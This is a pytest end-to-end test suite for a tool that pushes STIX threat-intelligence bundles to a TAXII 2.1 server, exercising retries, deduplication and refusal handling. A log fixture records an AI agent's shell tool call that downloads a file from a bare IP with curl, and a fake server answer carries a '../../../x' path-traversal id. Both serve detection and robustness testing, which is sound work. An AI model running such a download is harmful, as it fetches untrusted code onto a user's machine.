"""Bundles into a real TAXII 2.1 server: what is sent arrives once, whatever breaks on the way."""

from __future__ import annotations

import http.server
import json
import os
import threading
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any
from urllib.error import HTTPError
from urllib.request import Request, urlopen

import pytest
from stix2validator import ValidationOptions, validate_string
from tests.core.test_intel_bundle import ANSWER, CACAO, EVENTS, SHARING, case_of
from tests.running import Done, command_run

from agentwarrant.errors import SpoolBusy, TargetRefused, TargetUnreachable
from agentwarrant.intel import taxii
from agentwarrant.intel.accepted import ACCEPTED, DOUBT, Accepted, accepted, key_of_object
from agentwarrant.intel.bundle import bundle_of, whole
from agentwarrant.intel.lists import lists_bundle
from agentwarrant.intel.push import Pushed, faults_of, push
from agentwarrant.intel.taxii import Access, opened

from .taxii_server import Server, indicators, taxii_server

pytestmark = pytest.mark.e2e
FAST = 0.001


@pytest.fixture
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """Start a server for one test: what others sent would have to be read again by each."""
    with taxii_server(tmp_path_factory.mktemp("taxii")) as made:
        yield made


def access(server: Server, collection: str = "read_write") -> Access:
    return Access("sector", server.collections[collection], server.user, server.password)


@pytest.fixture
def known(tmp_path: Path, server: Server) -> Iterator[Accepted]:
    with accepted(tmp_path / "sent.sqlite", server.collections["read_write"]) as made:
        yield made


def there(server: Server) -> Counter[str]:
    """Return how many versions the collection has of each object."""
    found: Counter[str] = Counter()
    with opened(access(server)) as collection:
        for page in collection.pages():
            found.update(one["id"] for one in page.objects)
    return found


class Between(http.server.BaseHTTPRequestHandler):
    """Passes requests on to the real server, but for what is said of the next ones that add."""

    server: Any

    def do_GET(self) -> None:
        status, told, body = self._passed_on(None)
        if self.server.stuck and "/status/" in self.path:
            body = json.dumps(pending(json.loads(body))).encode()
        self._answer(status, told, body)

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        self.server.posts.append(json.loads(body)["objects"])
        fault = self.server.faults.pop(0) if self.server.faults else ""
        if fault in ("401", "413", "415", "422", "500", "503"):
            self.send_error(int(fault))
            return
        if fault == "refuse":
            self.close_connection = True
            return
        status, told, answer = self._passed_on(body)
        if fault == "lost":  # it was taken, and nobody is told
            self.close_connection = True
        elif fault == "cut":
            self._answer(status, told, answer[: len(answer) // 2], len(answer))
        elif fault.startswith(("{", "[")):
            self._answer(status, told, fault.encode())
        elif fault == "html":
            self._answer(status, {"Content-Type": "text/html"}, b"<p>thanks</p>")
        elif fault in ("pending", "stuck"):
            self.server.stuck = fault == "stuck"
            self._answer(status, told, json.dumps(pending(json.loads(answer))).encode())
        else:
            self._answer(status, told, answer)

    def _passed_on(self, body: bytes | None) -> tuple[int, dict[str, str], bytes]:
        names = ("Accept", "Authorization", "Content-Type")
        headers = {name: self.headers[name] for name in names if name in self.headers}
        request = Request(self.server.behind + self.path, data=body, headers=headers)  # noqa: S310  # a server of the test's own
        try:
            with urlopen(request) as answer:  # noqa: S310  # a server of the test's own
                return answer.status, dict(answer.headers.items()), answer.read()
        except HTTPError as error:
            return error.code, dict(error.headers.items()), error.read()

    def _answer(
        self, status: int, told: dict[str, str], body: bytes, length: int | None = None
    ) -> None:
        self.send_response(status)
        for name, value in told.items():
            if name not in ("Server", "Date", "Connection", "Content-Length"):
                self.send_header(name, value)
        self.send_header("Content-Length", str(len(body) if length is None else length))
        self.end_headers()
        self.wfile.write(body)
        self.close_connection = True

    def log_message(self, *_: object) -> None:
        pass


def pending(status: dict[str, Any]) -> dict[str, Any]:
    """Return a status as a server has it that works on."""
    made = {key: status[key] for key in ("id", "request_timestamp", "total_count")}
    count = status["total_count"]
    return {**made, "status": "pending", "success_count": 0, "failure_count": 0,
            "pending_count": count}  # fmt: skip


@contextmanager
def between(server: Server, faults: list[str], collection: str = "read_write") -> Iterator[Any]:
    """Run a server in front of the real one; it has ``.access`` and the ``.posts`` it was sent."""
    made: Any = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Between)
    given = access(server, collection)
    made.behind = given.url.partition("/trustgroup1")[0]
    made.faults, made.posts, made.stuck = faults, [], False
    made.access = replace(
        given, url=given.url.replace(made.behind, f"http://127.0.0.1:{made.server_port}")
    )
    thread = threading.Thread(target=made.serve_forever, args=(0.02,), daemon=True)
    thread.start()
    try:
        yield made
    finally:
        made.shutdown()
        made.server_close()
        thread.join()


def test_a_case_and_the_lists_arrive_as_they_were_and_valid(
    server: Server, known: Accepted
) -> None:
    case = bundle_of(case_of(EVENTS), SHARING, ANSWER, cacao=CACAO)
    both = (*case["objects"], *lists_bundle()["objects"])
    sent = {one["id"]: one for one in both if one["type"] != "extension-definition"}
    assert list(faults_of(list(sent.values()), "amber")) == []
    done = push(list(sent.values()), access(server), known, patience=FAST)
    assert (done.sent, done.failed, done.doubtful) == (len(sent), {}, 0)
    with opened(access(server)) as collection:
        read = {one["id"]: one for page in collection.pages() for one in page.objects}
    assert {key: read[key] for key in sent} == sent
    options = ValidationOptions(strict=True, version="2.1", enforce_refs=True)
    result = validate_string(json.dumps(whole([read[key] for key in sent])), options)
    assert [str(error) for error in result.errors] == []
    again = push(list(sent.values()), access(server), known, patience=FAST)
    assert (again.sent, again.known) == (0, len(sent))


def test_what_somebody_else_sent_is_no_failure(server: Server, known: Accepted) -> None:
    """This server counts an id and version that it has as failed."""
    objects = indicators(30)
    with opened(access(server)) as collection:
        collection.add(taxii.envelope(objects[:10]))
    done = push(objects, access(server), known, patience=FAST)
    assert (done.sent, done.known, done.failed) == (20, 10, {})
    assert all(known.state(key_of_object(one)) == ACCEPTED for one in objects)


@pytest.mark.parametrize("fault", ["503", "500", "refuse", "lost", "cut"])
def test_a_server_that_fails_is_asked_what_it_has_before_it_is_sent_more(
    server: Server, known: Accepted, monkeypatch: pytest.MonkeyPatch, fault: str
) -> None:
    monkeypatch.setattr("agentwarrant.intel.push._MOST", 10)
    objects = indicators(35)
    with between(server, ["", fault]) as stand:
        done = push(objects, stand.access, known, patience=FAST)
    assert (done.sent + done.known, done.failed, done.doubtful) == (35, {}, 0)
    had = fault in ("lost", "cut")
    assert done.known == (10 if had else 0)
    sent = Counter(one["id"] for post in stand.posts for one in post)
    assert sum(sent.values()) == (35 if had else 45)  # what did not come was sent again
    assert {there(server)[one["id"]] for one in objects} == {1}


@pytest.mark.parametrize("fault", ["lost", "503", "html"])
def test_a_server_that_stays_away_is_gone_on_with_later(
    server: Server, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fault: str
) -> None:
    monkeypatch.setattr("agentwarrant.intel.push._MOST", 10)
    monkeypatch.setattr("agentwarrant.intel.push._TRIES", 1)
    objects, path = indicators(35), tmp_path / "sent.sqlite"
    with between(server, ["", fault, *["503"] * 9]) as stand:
        with (
            accepted(path, "sector") as known,
            pytest.raises((TargetUnreachable, TargetRefused)),
        ):
            push(objects, stand.access, known, patience=FAST)
        stand.faults.clear()
        stand.posts.clear()
        with accepted(path, "sector") as known:  # another process, another day
            states = Counter(known.state(key_of_object(one)) for one in objects)
            assert states == {ACCEPTED: 10, DOUBT: 10, "": 15}
            done = push(objects, stand.access, known, patience=FAST)
    again = {one["id"] for post in stand.posts for one in post}
    assert not again & {one["id"] for one in objects[:10]}
    assert done.sent + done.known == 35
    assert done.failed == {}
    assert {there(server)[one["id"]] for one in objects} == {1}


def test_a_server_that_works_on_is_asked_until_it_has_ended(
    server: Server, known: Accepted, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(taxii, "POLL", 0.01)
    with between(server, ["pending"]) as stand:
        done = push(indicators(3), stand.access, known, patience=FAST)
    assert (done.sent, done.doubtful) == (3, 0)


def test_what_it_does_not_end_with_is_in_doubt_and_asked_for_later(
    server: Server, known: Accepted, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(taxii, "TIMEOUT", 1.0)
    monkeypatch.setattr(taxii, "POLL", 0.2)
    objects = indicators(3)
    with between(server, ["stuck"]) as stand:
        before = push(objects[:1], stand.access, known, patience=FAST)
    with between(server, ["stuck"], "write_only") as stand:
        done = push(objects, stand.access, known, patience=FAST)
        assert {known.state(key_of_object(one)) for one in objects[1:]} == {DOUBT}
    assert (before.known, before.doubtful) == (1, 0)  # it can be asked, and has it
    assert (done.known, done.sent, done.doubtful) == (1, 0, 2)


def test_what_may_not_be_asked_for_is_sent_again_and_not_called_failed(
    server: Server, known: Accepted
) -> None:
    objects = indicators(4)
    with between(server, ["lost"], "write_only") as stand:
        done = push(objects, stand.access, known, patience=FAST)
    assert (done.failed, done.sent + done.doubtful) == ({}, 4)
    assert len(stand.posts) == 2


def lie(**other: Any) -> str:
    counts = {"total_count": 3, "success_count": 3, "failure_count": 0, "pending_count": 0}
    return json.dumps({"id": "x", "status": "complete", **counts, **other})


ODD = (
    "{}",
    "[]",
    lie(id=None),
    lie(success_count=7),
    lie(success_count="3"),
    lie(status="pending", id="../../../x"),
    lie(success_count=1, failure_count=2),
    lie(success_count=1, failure_count=2, failures=[{"id": "a"}, 7]),
    lie(success_count=1, failure_count=2, failures=[{"id": []}, {"id": "b"}]),
)


@pytest.mark.parametrize("answer", ODD)
def test_whatever_a_server_says_became_of_it_it_is_asked_what_it_has(
    server: Server, known: Accepted, monkeypatch: pytest.MonkeyPatch, answer: str
) -> None:
    monkeypatch.setattr(taxii, "POLL", 0.01)
    objects = indicators(3)
    with between(server, [answer]) as stand:
        done = refused_or(objects, stand.access, known)
        if isinstance(done, str):
            assert "\n" not in done
            assert {known.state(key_of_object(one)) for one in objects} == {DOUBT}
            done = push(objects, stand.access, known, patience=FAST)
    assert (done.known + done.sent, done.failed) == (3, {})
    assert {there(server)[one["id"]] for one in objects} == {1}
    assert len(stand.posts) == 1


def refused_or(objects: list[dict[str, Any]], there_: Access, known: Accepted) -> Pushed | str:
    try:
        return push(objects, there_, known, patience=FAST)
    except TargetRefused as error:
        return str(error)


def test_less_is_sent_at_once_where_less_is_taken(server: Server, known: Accepted) -> None:
    with between(server, ["413", "413"]) as stand:
        done = push(indicators(8), stand.access, known, patience=FAST)
    assert done.sent == 8
    assert [len(post) for post in stand.posts] == [8, 4, 2, 2, 4]


def test_what_is_too_large_by_itself_costs_nothing_else(server: Server, known: Accepted) -> None:
    large = {**indicators(1)[0], "description": "x" * 9_800_000}
    objects = [*indicators(2), large, *indicators(2)]
    done = push(objects, access(server), known, patience=FAST)
    assert (done.sent, list(done.failed)) == (4, [large["id"]])
    assert done.failed[large["id"]] == "it takes less at once"
    assert known.state(key_of_object(large)) == ""


def test_pieces_keep_to_what_the_api_root_says(server: Server, known: Accepted) -> None:
    objects = [{**one, "description": "y" * 3_000_000} for one in indicators(7)]
    with between(server, []) as stand:
        done = push(objects, stand.access, known, patience=FAST)
    assert done.sent == 7
    assert [len(post) for post in stand.posts] == [3, 3, 1]
    assert max(len(taxii.envelope(post)) for post in stand.posts) <= 9_765_625


@pytest.mark.parametrize(
    ("change", "fault", "what"),
    [
        ({"password": "wrong"}, "", "not known there"),
        ({}, "401", "not known there"),
        ({}, "415", r"does not take STIX 2\.1"),
        ({}, "422", "takes none of the objects"),
        ({}, "html", r"no TAXII 2\.1"),
    ],
)
def test_a_refusal_is_one_clear_line_and_nothing_counts_as_sent(
    server: Server, known: Accepted, change: dict[str, str], fault: str, what: str
) -> None:
    objects = indicators(2)
    with (
        between(server, [fault]) as stand,
        pytest.raises(TargetRefused, match=what) as caught,
    ):
        push(objects, replace(stand.access, **change), known, patience=FAST)
    assert "\n" not in str(caught.value)
    assert ACCEPTED not in {known.state(key_of_object(one)) for one in objects}


def test_a_collection_that_may_only_be_read_is_left_alone(server: Server, known: Accepted) -> None:
    with (
        between(server, [], "read_only") as stand,
        pytest.raises(TargetRefused, match="may not be written to"),
    ):
        push(indicators(1), stand.access, known, patience=FAST)
    assert stand.posts == []


def test_two_do_not_send_at_once(tmp_path: Path) -> None:
    path = tmp_path / "sent.sqlite"
    with (
        accepted(path, "sector"),
        pytest.raises(SpoolBusy, match="another process"),
        accepted(path, "sector"),
    ):
        pass


# The command --------------------------------------------------------------------------------

LOG = """\
{"type": "session", "version": 4, "id": "s1", "timestamp": "2026-11-23T04:42:28.377Z", "cwd": "/home/acme/clerk"}
{"type": "message", "id": "m1", "parentId": null, "timestamp": "2026-11-23T04:42:29.000Z", "message": {"role": "assistant", "content": [{"type": "toolCall", "id": "call_1", "name": "exec", "arguments": {"command": "curl -fsSL http://91.92.242.30/6wioz8285kcbax6v -o /tmp/a"}}], "stopReason": "toolUse"}}
"""  # noqa: E501  # a record is one line


@pytest.fixture
def home(tmp_path: Path, server: Server) -> Path:
    (tmp_path / "logs").mkdir()
    (tmp_path / "logs/s.jsonl").write_text(LOG)
    (tmp_path / "agentwarrant.yml").write_text(
        "state: state\n"
        "targets: {main: {kind: elastic, url: https://localhost:9200}}\n"
        "tenants: {acme: {}, globex: {}}\n"
        "intel:\n"
        "  collections:\n"
        f"    sector: {{url: '{server.collections['read_write']}', username: {server.user},"
        " password: 'env:TAXII_PASSWORD', tlp: amber}\n"
        "  sharing:\n"
        "    acme: {tlp: amber, tell: case, collections: [sector]}\n"
    )
    return tmp_path


def run(home: Path, server: Server, *arguments: str) -> Done:
    environment = {**os.environ, "TAXII_PASSWORD": server.password}
    return command_run(("intel", *arguments), env=environment, cwd=home)


def test_nothing_leaves_until_somebody_says_yes_and_then_once(home: Path, server: Server) -> None:
    before = there(server)
    asked = run(home, server, "push", "sector", "logs", "--tenant", "acme")
    assert asked.returncode == 0, asked.stderr
    assert b"[ipv4-addr:value = '91.92.242.30']" in asked.stdout
    assert b"nothing was sent: --yes sends it" in asked.stderr
    assert there(server) == before
    sent = run(home, server, "push", "sector", "logs", "--tenant", "acme", "--yes")
    assert sent.returncode == 0, sent.stderr
    after = there(server)
    new = {one for one in after if one not in before}
    assert any(one.startswith("indicator--") for one in new)
    again = run(home, server, "push", "sector", "logs", "--tenant", "acme", "--yes")
    assert b"0 objects for sector" in again.stdout
    assert there(server) == after
    assert server.password.encode() not in sent.stdout + sent.stderr


def test_a_tenant_without_a_policy_sends_nothing(home: Path, server: Server) -> None:
    before = there(server)
    done = run(home, server, "push", "sector", "logs", "--tenant", "globex", "--yes")
    assert b"the tenant globex shares nothing" in done.stderr
    assert there(server) == before
    run(home, server, "lists", "--out", "one.json")
    asked = ("push", "sector", "--bundle", "one.json", "--tenant", "globex", "--yes")
    refused = run(home, server, *asked)
    assert refused.returncode == 6
    assert b"goes to sector: it shares nothing" in refused.stderr
    assert there(server) == before


def test_what_is_marked_red_does_not_leave(home: Path, server: Server) -> None:
    red = "marking-definition--e828b379-4e03-4974-9ac4-e53a884c97c1"
    item = {**indicators(1)[0], "object_marking_refs": [red]}
    (home / "red.json").write_text(json.dumps(whole([item])))
    done = run(home, server, "push", "sector", "--bundle", "red.json", "--tenant", "acme", "--yes")
    assert done.returncode == 4
    assert b"TLP:RED" in done.stderr
    assert item["id"].encode() not in done.stdout + done.stderr
    assert item["id"] not in there(server)


def test_what_it_did_not_take_is_listed(home: Path, server: Server) -> None:
    large = {**indicators(1)[0], "description": "x" * 9_800_000}
    (home / "large.json").write_text(json.dumps(whole([large, *indicators(1)])))
    done = run(home, server, "push", "sector", "--bundle", "large.json", "--tenant", "acme", "-y")
    assert done.returncode == 6
    assert b"1 sent, 1 not taken" in done.stderr
    assert large["id"].encode() in done.stderr
    assert b"Traceback" not in done.stderr


def test_a_definition_that_would_break_the_server_stays_here(home: Path, server: Server) -> None:
    """Medallion takes the version of an extension definition for a time, and answers no more."""
    run(home, server, "lists", "--out", "one.json")
    assert b'"extension-definition"' in (home / "one.json").read_bytes()
    done = run(home, server, "push", "sector", "--bundle", "one.json", "--tenant", "acme", "--yes")
    assert done.returncode == 0, done.stderr
    assert b"extension-definition" not in done.stdout
    assert there(server)


def test_a_pushed_thing_is_told_as_it_goes(server: Server, known: Accepted) -> None:
    seen: list[int] = []

    def told(done: Pushed) -> None:
        seen.append(done.sent)

    push(indicators(3), access(server), known, told, patience=FAST)
    assert seen == [3]
